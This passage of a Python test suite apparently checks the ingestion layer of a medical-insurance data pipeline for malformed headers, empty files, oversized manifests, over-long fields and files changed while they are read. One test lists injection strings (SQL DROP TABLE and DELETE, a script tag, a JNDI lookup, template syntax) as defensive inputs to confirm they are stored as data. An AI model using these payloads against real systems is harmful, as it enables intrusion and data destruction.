        "fixmedins": ["fixmedins_code,fixmedins_name,fixmedins_type,hosp_lv,admdvs", "H001,医院,1,1,610100"]})
    summary = ingest(settings)
    assert summary.files_rejected == [("medins/20261101-001/psn_info.csv", "header repeats column(s) psn_name")]
    assert [r["fixmedins_code"] for r in read("bronze", "medins__fixmedins")] == ["H001"]


def test_8_empty_file_is_refused_with_its_reason(settings, read):
    batch = write_batch(settings.landing, "medins", "20261101-001", {
        "psn_info": [PSN_HEADER, psn("P1")],
        "fixmedins": ["fixmedins_code,fixmedins_name,fixmedins_type,hosp_lv,admdvs", "H001,医院,1,1,610100"]})
    rewrite_file(batch, "psn_info", b"", rows=0)               # zero bytes, and the manifest agrees
    summary = ingest(settings)
    assert summary.files_rejected == [("medins/20261101-001/psn_info.csv", "file has no header row")]
    assert [r["fixmedins_code"] for r in read("bronze", "medins__fixmedins")] == ["H001"]


def test_8_manifest_of_gigabytes_is_refused_unread(settings, read):
    batch = write_batch(settings.landing, "medins", "20261101-001", {"psn_info": [PSN_HEADER, psn("P1")]})
    with (batch / "_manifest.json").open("r+b") as fh:          # 4 GiB, sparse: nothing is written to disk
        fh.truncate(4 << 30)
    _police_snapshot(settings)
    import resource
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    summary = ingest(settings)
    assert summary.batches_rejected == [("medins/20261101-001", "manifest is larger than 1 MiB")]
    assert summary.batches_applied == ["police/20261101-001"]
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 512 << 10     # KiB: not read into memory


def test_8_fields_of_absurd_length_are_quarantined_and_the_rest_lands(settings, read):
    from yibao.contract import MAX_FIELD_CHARS, MAX_NAME_CHARS

    long_id = "6" * (MAX_FIELD_CHARS + 1)
    lines = [PSN_HEADER,
             psn("P1", name="张" * MAX_NAME_CHARS),                             # the longest name: kept
             psn("P2", name="张" * (MAX_NAME_CHARS + 1)),                       # one more: quarantined
             psn("P3").replace("610102198501011234", long_id),                 # an ID number of 2001 digits
             psn("P4", addr="西" * MAX_FIELD_CHARS),                            # the longest address: kept
             psn("P5").replace("610102198501011234", "6101021985010112349999")]  # merely wrong: lands, flagged later
    write_batch(settings.landing, "medins", "20261101-001", {"psn_info": lines})
    summary = ingest(settings)
    assert summary.rows_landed == 3 and summary.rows_quarantined == 2
    assert sorted(r["psn_no"] for r in read("bronze", "medins__psn_info")) == ["P1", "P4", "P5"]
    q = {r["line_number"]: r["reason"] for r in read("meta", "quarantine")}
    assert q == {3: f"column psn_name: longer than {MAX_NAME_CHARS} characters",
                 4: f"column certno: longer than {MAX_FIELD_CHARS} characters"}


def test_8_values_that_look_like_sql_or_html_land_as_data(settings, read):
    """A department's value is data all the way: stored byte for byte, never run (the SQL of every stage passes
    values as data; the dashboards show them as text, and exports escape formulas: test_5)."""
    hostile = ["'); DROP TABLE bronze.medins__psn_info; --", "<script>alert(1)</script>", "\"; DELETE FROM x; --",
               "${jndi:ldap://x}", "{{7*7}}"]
    rows = [psn(f"P{i}", name=n.replace('"', '""')) for i, n in enumerate(hostile)]
    rows = [r.replace(n.replace('"', '""'), f'"{n.replace(chr(34), chr(34) * 2)}"', 1) for r, n in zip(rows, hostile)]
    write_batch(settings.landing, "medins", "20261101-001", {"psn_info": [PSN_HEADER] + rows})
    summary = ingest(settings)
    assert summary.rows_landed == len(hostile) and summary.rows_quarantined == 0
    got = {r["psn_no"]: r["psn_name"] for r in read("bronze", "medins__psn_info")}
    assert got == {f"P{i}": n for i, n in enumerate(hostile)}


@pytest.mark.parametrize("first_load", [True, False], ids=["first full load, written to bronze directly",
                                                            "incremental batch, staged"])
def test_8_a_file_changed_while_it_is_read_lands_nothing_and_is_taken_again(tmp_path, monkeypatch, first_load):
    """The landing zone changing under the reader: a file rewritten by its producer after its sha256 was verified
    and before (or while) it is parsed.  None of its rows stay in bronze (a first full load, which writes bronze
    directly, is rolled back), its batch and the source's later batches wait for the next run with the reason
    said, other sources land; the next run verifies afresh and lands exactly what an undisturbed run lands."""
    from yibao.config import Settings
    from yibao.ingestion import bronze

    def deliver(landing):
        write_batch(landing, "medins", "20261101-001", {"psn_info": [PSN_HEADER, psn("P1"), psn("P2")]})
        write_batch(landing, "medins", "20261108-001", {"psn_info": [PSN_HEADER + ",del_flag", psn("P3") + ",0"]},
                    mode="incremental")
        write_batch(landing, "police", "20261101-001", {"hsreg_psn": [HSREG_HEADER, hsreg(1), hsreg(2)]})

    clean, moved = Settings(data_root=tmp_path / "clean"), Settings(data_root=tmp_path / "moved")
    deliver(clean.landing)
    deliver(moved.landing)
    ingest(clean)
    batch = "20261101-001" if first_load else "20261108-001"
    target = moved.landing / "medins" / batch / "psn_info.csv"
    saved = target.read_bytes()
    original = bronze._parsed

    def rewritten_meanwhile(cat, f, *args, **kwargs):
        if f.path == target:
            target.write_bytes(saved + "P9,改写的,1,1985-01-01,01,01,610102198501019999,1,1,x,610102,x,610102,B9\n"
                               .encode())
        return original(cat, f, *args, **kwargs)

    if not first_load:
        (moved.landing / "medins" / "20261108-001").rename(tmp_path / "later")
        ingest(moved)                                    # batch 1 lands undisturbed
        (tmp_path / "later").rename(moved.landing / "medins" / "20261108-001")
    monkeypatch.setattr(bronze, "_parsed", rewritten_meanwhile)
    s = ingest(moved)
    deferred = dict(s.batches_deferred)
    assert f"medins/{batch}" in deferred and "changed while it was read" in deferred[f"medins/{batch}"], deferred
    if first_load:   # the source's later batch waits behind it; the other source lands
        assert "waits for medins/20261101-001" in deferred["medins/20261108-001"]
        assert not _catalog(moved).exists("bronze", "medins__psn_info")     # rolled back: no table
        assert "police/20261101-001" in s.batches_applied
    else:
        rows = _catalog(moved).read("bronze", "medins__psn_info").collect()
        assert sorted(r["psn_no"] for r in rows) == ["P1", "P2"]             # batch 1 only, nothing of the rewrite
    monkeypatch.undo()
    target.write_bytes(saved)                  # the producer puts the delivered file back
    again = ingest(moved)
    assert not again.batches_deferred and f"medins/{batch}" in again.batches_applied
    assert table_state(moved) == table_state(clean)
